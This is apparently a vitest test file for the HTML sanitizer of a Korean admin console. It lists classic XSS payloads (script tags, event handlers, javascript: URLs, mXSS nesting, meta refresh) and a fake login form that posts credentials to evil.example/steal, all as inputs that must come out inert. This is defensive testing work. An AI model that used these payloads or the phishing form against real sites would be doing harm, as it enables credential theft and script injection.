import { describe, expect, it } from 'vitest';
import { IMAGE_CDN_ORIGINS, isAllowedImageUrl } from '@/format/imageUrl';
import { sanitizeHtml } from '@/format/sanitize';

const ORIGIN = 'https://console.beancoffee.co.kr';
const clean = (html: string) => sanitizeHtml(html, { remoteImageLabel: '외부 이미지', origin: ORIGIN });

/** The sanitized HTML as a detached DOM, to ask what is left. */
function parsed(html: string): HTMLElement {
  const box = document.createElement('div');
  box.innerHTML = clean(html);
  return box;
}

describe('sanitizeHtml: what escaped the old profile', () => {
  it('a fixed-position full-screen overlay keeps its text but loses every way to position itself', () => {
    const box = parsed(
      '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background-color:#fff;color:#000">점검 중입니다</div>' +
        '<style>body{visibility:hidden}</style><div class="MuiBackdrop-root" id="root">가림막</div>',
    );
    expect(box.textContent).toBe('점검 중입니다가림막');
    expect(box.querySelector('style')).toBeNull();
    expect(box.innerHTML).not.toMatch(/position|z-index|100vw|visibility|class=|id=/);
    // the harmless part of the style survives
    expect(box.querySelector('div')?.getAttribute('style')).toBe('color: rgb(0, 0, 0); background-color: rgb(255, 255, 255)');
  });

  it('a fake login form disappears with its fields, its button and its text', () => {
    const box = parsed(
      '<p>보안을 위해 다시 로그인해주세요.</p><form action="https://evil.example/steal" method="post">' +
        '<input name="adminId"><input type="password" name="adminPwd"><textarea>메모</textarea>' +
        '<select><option>선택</option></select><button type="submit">로그인</button></form><button>확인</button>',
    );
    expect(box.querySelectorAll('form, input, button, textarea, select, option')).toHaveLength(0);
    expect(box.textContent).toBe('보안을 위해 다시 로그인해주세요.');
    expect(box.innerHTML).not.toContain('evil.example');
  });

  it('a remote tracking image becomes a link and is never an <img>', () => {
    const box = parsed('<p>이벤트<img src="https://tracker.example/pixel.gif?u=hq.master" alt="배너"></p>');
    expect(box.querySelector('img')).toBeNull();
    const link = box.querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://tracker.example/pixel.gif?u=hq.master');
    expect(link?.textContent).toBe('외부 이미지: 배너');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link?.getAttribute('target')).toBe('_blank');
  });

  it('images of the own origin, the allowed CDN and inline raster images stay', () => {
    const box = parsed(
      `<img src="/api/mock/image/3" alt="a"><img src="${ORIGIN}/img/b.png" alt="b"><img src="${IMAGE_CDN_ORIGINS[0]}/c.png" alt="c">` +
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="d">',
    );
    expect([...box.querySelectorAll('img')].map((image) => image.getAttribute('alt'))).toEqual(['a', 'b', 'c', 'd']);
  });

  it('remote images in other attributes are dropped (srcset, background, poster, protocol-relative)', () => {
    const box = parsed(
      '<img src="/ok.png" srcset="https://tracker.example/2x.png 2x"><table background="https://tracker.example/bg.png"><tr><td>셀</td></tr></table>' +
        '<video poster="https://tracker.example/p.png"><source src="https://tracker.example/v.mp4"></video><img src="//tracker.example/x.gif">',
    );
    expect(box.innerHTML).not.toMatch(/srcset|background=|<video|<source|poster/);
    expect([...box.querySelectorAll('img')].map((image) => image.getAttribute('src'))).toEqual(['/ok.png']);
    expect(box.querySelector('a')?.getAttribute('href')).toBe('//tracker.example/x.gif');
  });

  it('every link opens in a new tab without the opener or the referrer; its own target/rel are replaced', () => {
    const box = parsed('<a href="https://m.beancoffee.co.kr/event/1" target="_self" rel="opener">이벤트</a><a href="/notice">공지</a><a>이름만</a>');
    const [external, internal, bare] = [...box.querySelectorAll('a')];
    for (const link of [external, internal]) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    }
    expect(bare.hasAttribute('target')).toBe(false);
  });
});

describe('sanitizeHtml: the classic XSS list renders inert', () => {
  const payloads = [
    '<script>window.__xss=1</script>',
    '<img src=x onerror="window.__xss=1">',
    '<svg onload="window.__xss=1"><circle r="1"></circle></svg>',
    '<body onload="window.__xss=1">',
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<a href="javascript:window.__xss=1">클릭</a>',
    '<a href="  JaVaScRiPt:window.__xss=1">클릭</a>',
    '<a href="jav&#x09;ascript:window.__xss=1">클릭</a>',
    '<a href="data:text/html,<script>window.__xss=1</script>">클릭</a>',
    '<a href="vbscript:msgbox(1)">클릭</a>',
    '<details open ontoggle="window.__xss=1">',
    '<div onmouseover="window.__xss=1" onclick="window.__xss=1">위</div>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form><button formaction="javascript:window.__xss=1">x</button></form>',
    '<div data-testid="logout" aria-label="로그아웃" popover>테스트 훅</div>',
    '<p style="background-image:url(https://tracker.example/bg.png);color:red">빨강</p>',
    '<p style="color: expression(alert(1))">IE</p>',
  ];

  it.each(payloads)('%s', (payload) => {
    const html = clean(payload);
    expect(html).not.toMatch(/<(script|svg|iframe|object|embed|meta|base|link|form|button|style|math)\b/i);
    expect(html).not.toMatch(/\son[a-z]+=/i);
    expect(html).not.toMatch(/javascript:|vbscript:|data:text|expression\(|url\(|data-testid|aria-label|popover|evil\.example/i);
    const box = document.createElement('div');
    box.innerHTML = html;
    // what is left carries only content attributes (an <img src=x> of the own origin may stay, without its handler)
    const attributes = [...box.querySelectorAll('*')].flatMap((element) => element.getAttributeNames());
    expect(attributes.filter((name) => !['src', 'alt', 'href', 'target', 'rel', 'style', 'title'].includes(name))).toEqual([]);
  });

  it('is empty for what is not text', () => {
    for (const value of [null, undefined, 12, {}, '', '   ']) expect(clean(value as string)).toBe('');
  });

  it('keeps ordinary notice content as it was', () => {
    const html = '<p>안녕하세요.</p><ul><li>적용 일시: 2026년 3월 1일</li></ul><p><strong>감사합니다.</strong></p>';
    expect(clean(html)).toBe(html);
  });
});

describe('isAllowedImageUrl', () => {
  it('own origin, the CDN, relative paths and inline raster images only', () => {
    expect(isAllowedImageUrl('/api/mock/image/1', ORIGIN)).toBe(true);
    expect(isAllowedImageUrl('images/a.png', ORIGIN)).toBe(true);
    expect(isAllowedImageUrl(`${IMAGE_CDN_ORIGINS[0]}/a.png`, ORIGIN)).toBe(true);
    expect(isAllowedImageUrl('https://tracker.example/a.png', ORIGIN)).toBe(false);
    expect(isAllowedImageUrl('//tracker.example/a.png', ORIGIN)).toBe(false);
    expect(isAllowedImageUrl('data:image/svg+xml;base64,PHN2Zz4=', ORIGIN)).toBe(false);
    expect(isAllowedImageUrl('javascript:alert(1)', ORIGIN)).toBe(false);
    expect(isAllowedImageUrl('', ORIGIN)).toBe(false);
    expect(isAllowedImageUrl(undefined, ORIGIN)).toBe(false);
  });
});
